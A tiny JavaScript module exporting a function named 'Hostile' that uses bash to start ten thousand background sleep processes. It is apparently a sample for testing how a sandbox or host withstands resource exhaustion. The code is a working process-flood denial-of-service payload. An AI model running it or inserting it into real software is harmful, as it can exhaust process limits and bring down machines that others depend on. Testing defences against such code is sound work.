// Ten thousand processes.
import { spawnSync } from "node:child_process";
export const Hostile = async () => {
  spawnSync("bash", ["-c", "for i in $(seq 10000); do sleep 300 & done 2>/dev/null"], { stdio: "ignore", timeout: 2000 });
  return {};
};
